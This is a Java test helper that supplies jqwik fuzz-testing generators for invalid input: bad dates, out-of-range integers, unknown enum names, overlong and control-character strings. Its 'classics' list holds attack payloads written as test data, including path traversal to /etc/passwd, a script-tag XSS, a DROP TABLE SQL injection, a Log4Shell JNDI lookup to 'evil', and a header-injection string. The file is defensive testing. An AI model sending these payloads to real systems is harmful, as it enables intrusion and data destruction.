package vn.thidua.query.fuzz;

import java.time.LocalDate;
import java.time.format.DateTimeParseException;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** jqwik arbitraries of the strings and numbers that break careless input handling. */
final class BadValues {
  private BadValues() {}

  /** Known troublemakers: traversal, injection, control and bidi characters, odd unicode. */
  static Arbitrary<String> classics() {
    return Arbitraries.of(
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2f",
        "<script>alert(1)</script>",
        "'; DROP TABLE domain_event_entry;--",
        "${jndi:ldap://evil/x}",
        "#{7*7}",
        "\u0000",
        "a\u0000b",
        "\u202Eevil",
        "\uFEFF",
        "\uD800",
        "😀😀😀",
        "Tòa án nhân dân tỉnh Quảng Ninh",
        "\r\nX-Injected: yes",
        "\t",
        " ",
        "null",
        "NaN",
        "-0",
        "1e309",
        "0x1F",
        "%00",
        "%",
        "\\",
        "\"",
        "{}",
        "[]");
  }

  /** Any text at all, short or long, including control characters and lone surrogates. */
  static Arbitrary<String> anyText(int maxLength) {
    return Arbitraries.oneOf(
        classics(),
        Arbitraries.strings().all().ofMaxLength(maxLength),
        Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(20),
        Arbitraries.strings().withCharRange('\u0300', '\u036f').ofMinLength(1).ofMaxLength(40),
        Arbitraries.strings().alpha().numeric().withChars("-_.").ofMaxLength(maxLength));
  }

  /** Text that does not match the given pattern. */
  static Arbitrary<String> notMatching(String regex, int maxLength) {
    return Arbitraries.oneOf(
            anyText(maxLength),
            Arbitraries.strings().alpha().numeric().ofMinLength(65).ofMaxLength(300),
            Arbitraries.strings().alpha().ofLength(3).map(prefix -> prefix + "/" + prefix))
        .filter(text -> !text.matches(regex));
  }

  /** Text longer than the limit. */
  static Arbitrary<String> longerThan(int max) {
    return Arbitraries.oneOf(
        Arbitraries.strings().alpha().ofMinLength(max + 1).ofMaxLength(max + 50),
        Arbitraries.strings().all().ofMinLength(max + 1).ofMaxLength(max + 50),
        Arbitraries.strings().withChars("ạảãấầẩẫậ").ofMinLength(max + 1).ofMaxLength(max + 20));
  }

  /** Strings that are not an ISO date, and not blank (blank may be read as absent). */
  static Arbitrary<String> notADate() {
    return Arbitraries.oneOf(
            Arbitraries.of(
                "2023-02-30",
                "2023-13-01",
                "2023-00-10",
                "2023-1-5",
                "05/01/2023",
                "01.05.2023",
                "yesterday",
                "2023-01-05T00:00:00Z",
                "+99999999999-01-01",
                "-2023-01-01x",
                "2023‐01‐05",
                "２０２３-01-05",
                "9999999999"),
            anyText(30))
        .filter(text -> !text.isBlank() && !isIsoDate(text));
  }

  private static boolean isIsoDate(String text) {
    try {
      LocalDate.parse(text);
      return true;
    } catch (DateTimeParseException notADate) {
      return false;
    }
  }

  /** Integers out of the allowed range [min, max], as JSON number literals, overflow included. */
  static Arbitrary<String> integerLiteralOutside(long min, long max) {
    return Arbitraries.oneOf(
        Arbitraries.longs().between(Long.MIN_VALUE / 2, min - 1).map(String::valueOf),
        Arbitraries.longs().between(max + 1, Long.MAX_VALUE / 2).map(String::valueOf),
        Arbitraries.of(
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999999999999",
            "2147483648",
            "-2147483649"));
  }

  /** Names that are not constants of the enum (digits excluded: Jackson reads them as indexes). */
  static Arbitrary<String> notAConstantOf(Class<?> enumType) {
    java.util.Set<String> names = new java.util.HashSet<>();
    for (Object constant : enumType.getEnumConstants()) {
      names.add(((Enum<?>) constant).name().toLowerCase(java.util.Locale.ROOT));
    }
    return Arbitraries.oneOf(
            anyText(40),
            Arbitraries.of(enumType.getEnumConstants())
                .map(constant -> ((Enum<?>) constant).name() + "_X"))
        .filter(
            text ->
                !text.isBlank()
                    && !text.chars().allMatch(Character::isDigit)
                    && !names.contains(text.trim().toLowerCase(java.util.Locale.ROOT)));
  }
}
